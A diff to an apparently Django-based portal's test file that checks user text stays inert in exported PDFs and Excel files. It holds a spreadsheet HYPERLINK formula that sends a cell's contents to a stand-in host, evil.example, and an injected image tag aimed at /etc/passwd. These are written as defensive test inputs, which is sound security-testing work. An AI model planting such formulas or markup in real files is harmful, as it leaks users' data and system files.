@@ -1,11 +1,9 @@
 """Users' text is data everywhere: never markup in a PDF, never a formula in Excel, never a content type."""
 
-import http.server
 import io
 import os
 import shutil
 import subprocess
-import threading
 from datetime import date
 
 import pytest
@@ -25,27 +23,6 @@ from tests.xlsx import table
 pytestmark = pytest.mark.django_db
 GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
-
-
-@pytest.fixture
-def listener():
-    """A web server on loopback that records any request the portal would make to it."""
-    hits = []
-
-    class Handler(http.server.BaseHTTPRequestHandler):
-        def do_GET(self):
-            hits.append(self.path)
-            self.send_response(200)
-            self.send_header("Content-Type", "image/png")
-            self.end_headers()
-
-        def log_message(self, *args):
-            pass
-
-    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{server.server_port}", hits
-    server.shutdown()
 
 
 def pdf_text(content: bytes) -> str:
@@ -73,7 +50,8 @@ def test_a_suggestion_title_is_text_in_the_annual_report_pdf(client, world, list
     assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
     assert hits == []
     text = pdf_text(response.content)
-    assert "<b>未闭合" in text and "/etc/passwd" in text
+    compact = "".join(text.split())  # lines wrap inside the table's cell
+    assert "<b>未闭合" in compact and '<imgsrc="/etc/passwd"/>' in compact
 
 
 def test_a_citizens_formula_stays_text_in_the_registers_excel(client, staff_user):
